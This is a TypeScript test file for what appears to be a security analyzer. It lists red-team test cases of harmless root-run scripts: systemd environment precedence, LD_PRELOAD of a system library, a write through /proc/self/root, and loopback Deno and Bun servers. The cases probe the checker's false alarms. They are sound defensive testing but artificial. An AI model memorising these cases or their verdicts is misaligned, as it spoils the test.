    // Processes" (a unit's processes get the manager's variables and THAT unit's Environment=/EnvironmentFile=): ops1's
    // HOST=0.0.0.0 never reaches ops2's node, which falls back to 127.0.0.1; ops1's a.js binds the literal 127.0.0.1:
    // both loopback, harmless. systemd.ts unitEnvironment gives each unit's variables to the PROGRAM NAME (`node`) of
    // its Exec lines, so ops2's `node server.js` is judged with HOST=0.0.0.0 ("its environment: HOST=0.0.0.0").
    // Fix: key unit-given variables by the unit (its Exec line's `how`) rather than the program's basename.
    // Still open (round 75): the keying is fixed (systemd.ts unitExecGiven: ops2's node no longer gets ops1's HOST), but
    // ops1's own node gets HOST=0.0.0.0 and environmentListeners reads a listen variable given to node as an unread
    // program's listen setting, though a.js binds a literal; it would take environmentListeners skipping a node
    // program whose every file javascript.ts reads with the unit's environment (nodeProgramListeners).
    dev(
        "unit ops1 Environment=HOST=0.0.0.0 runs node a.js (literal 127.0.0.1); ops2 runs node server.js (HOST || 127.0.0.1)",
        script("dev-nsec21s-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr(HOST_OR_LO)),
            ...file("/opt/ops/a.js", nodeExpr('"127.0.0.1"')),
            ...systemdUnit("ops1", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
            ...systemdUnit("ops2", ["ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // Was a MISS (fixed in round 75): secure refused, class MANAGER-ENV-PRECEDENCE. systemd.exec(5) "Environment Variables in Spawned
    // Processes" (the sources in order: the manager's DefaultEnvironment=/systemd.setenv=/set-environment variables,
    // ..., then Environment=, then EnvironmentFile=; "the later source ... wins"): the unit's HOST=127.0.0.1 overrides
    // set-environment's HOST=0.0.0.0, node listens on loopback, harmless. The pack keeps every value that may reach
    // the program (environmentGiven's manager variables beside unitEnvironment's). Fix: a variable the unit surely
    // sets (systemd.ts unitSurelySet) hides the manager's value of that name.
    dev(
        "systemctl set-environment HOST=0.0.0.0; unit Environment=HOST=127.0.0.1; node listen(8081, process.env.HOST)",
        script("dev-nsec22s-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            "systemctl set-environment HOST=0.0.0.0",
            ...systemdUnit("ops", ["Environment=HOST=127.0.0.1", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),
    // systemd.unit(5) (drop-ins sorted by file name across directories): /usr/lib's b.conf after /etc's a.conf.
    dev(
        "unit HOST=0.0.0.0; /etc a.conf HOST=0.0.0.0; /usr/lib b.conf HOST=127.0.0.1 (sorted later wins)",
        script("dev-nsec23s-rt75n", [
            ...file("/opt/ops/server.js", nodeExpr("process.env.HOST")),
            ...file("/etc/systemd/system/ops.service.d/a.conf", ["[Service]", "Environment=HOST=0.0.0.0"]),
            ...file("/usr/lib/systemd/system/ops.service.d/b.conf", ["[Service]", "Environment=HOST=127.0.0.1"]),
            ...systemdUnit("ops", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/server.js"]),
        ]),
    ),

    // ---- round 75 fixer's neighbours (fix75-nsec2) ----
    // ld.so(8) LD_PRELOAD of a library in a root-owned system directory user data left alone.
    dev(
        "LD_PRELOAD=/usr/lib64/libjemalloc.so.2 python3 -m http.server --bind 127.0.0.1",
        script("dev-nsec50s-rt75n", [
            "cd / && LD_PRELOAD=/usr/lib64/libjemalloc.so.2 python3 -m http.server --bind 127.0.0.1 8081 >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // ld.so(8): a bare name is searched in the loader's (system) path.
    dev(
        "LD_PRELOAD=libjemalloc.so.2 nohup python3 -m http.server --bind 127.0.0.1",
        script("dev-nsec51s-rt75n", [
            "cd / && LD_PRELOAD=libjemalloc.so.2 nohup python3 -m http.server --bind 127.0.0.1 8081 >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Deno docs "deno run -": the here-document is read as the program (loopback, a constant answer).
    dev(
        "deno run -A - <<EOF (loopback Deno.serve answering a constant)",
        script("dev-nsec52s-rt75n", [
            "deno run -A - <<'EOF' &",
            'Deno.serve({ hostname: "127.0.0.1", port: 8081 }, () => new Response("ok"));',
            "EOF",
        ]),
    ),
    // ccache(1) wrapping gcc -c: an object file, never run.
    dev(
        "ccache gcc -c -o /opt/ops/s.o s.c (object only)",
        script("dev-nsec53s-rt75n", [
            ...file("/opt/ops/s.c", ["int f(void) { return 1; }"]),
            "ccache gcc -c -o /opt/ops/s.o /opt/ops/s.c",
        ]),
    ),
    // GNU make --version only prints its version.
    dev("make --version", script("dev-nsec54s-rt75n", ["make --version"])),
    // cp(1) into a directory no reader judges (update-motd).
    dev(
        "cp /opt/ops/motd /etc/motd.d (directory destination, a text file)",
        script("dev-nsec55s-rt75n", [...file("/opt/ops/motd", ["hello"]), "cp /opt/ops/motd /etc/motd.d"]),
    ),
    // proc(5) /proc/self/root alias of a file no reader judges.
    dev(
        "echo hello > /proc/self/root/etc/motd",
        script("dev-nsec56s-rt75n", ["echo hello > /proc/self/root/etc/motd"]),
    ),
    // systemd-tmpfiles(8) CONFIGFILE operand the pack reads: a directory under /run only.
    dev(
        "systemd-tmpfiles --create /opt/ops/t.conf (d /run/ops)",
        script("dev-nsec57s-rt75n", [
            ...file("/opt/ops/t.conf", ["d /run/ops 0755 root root -"]),
            "systemd-tmpfiles --create /opt/ops/t.conf",
        ]),
    ),
    // mount(8) of another type is no binfmt_misc registration.
    dev("mount -t tmpfs none /mnt/b", script("dev-nsec58s-rt75n", ["mkdir -p /mnt/b && mount -t tmpfs none /mnt/b"])),
    // Bun docs "Single-file executable": built, never run.
    dev(
        "bun build --compile --outfile /opt/ops/srv serve.ts (never run)",
        script("dev-nsec59s-rt75n", [
            ...file("/opt/ops/serve.ts", [
                'Bun.serve({ hostname: "127.0.0.1", port: 8081, fetch() { return new Response("ok"); } });',
            ]),
            "bun build --compile --outfile /opt/ops/srv /opt/ops/serve.ts",
        ]),
    ),
    // ---- round 76 fixer's neighbours (fix76-nsec) ----
    // One unit, HOST=0.0.0.0, its node program read in full binding the literal 127.0.0.1 (Node.js "net" server.listen).
    dev(
        "unit Environment=HOST=0.0.0.0 runs node a.js (literal 127.0.0.1)",
        script("dev-nsec80s-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr('"127.0.0.1"')),
            ...systemdUnit("ops1", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // The same from the script's exported environment, and a local module user data wrote.
    dev(
        "export HOST=0.0.0.0; node a.js (requires ./lib.js, written; literal 127.0.0.1)",
        script("dev-nsec81s-rt76n", [
            ...file("/opt/ops/lib.js", ['module.exports = { host: "127.0.0.1" };']),
            ...file("/opt/ops/a.js", ['const { host } = require("./lib.js");', ...nodeExpr('"127.0.0.1"')]),
            "export HOST=0.0.0.0",
            "nohup node /opt/ops/a.js >/var/log/ops.log 2>&1 &",
        ]),
    ),
];

describeNodeCases("red team 75 nsec: listeners of programs root runs on nodes", insecure, secure);
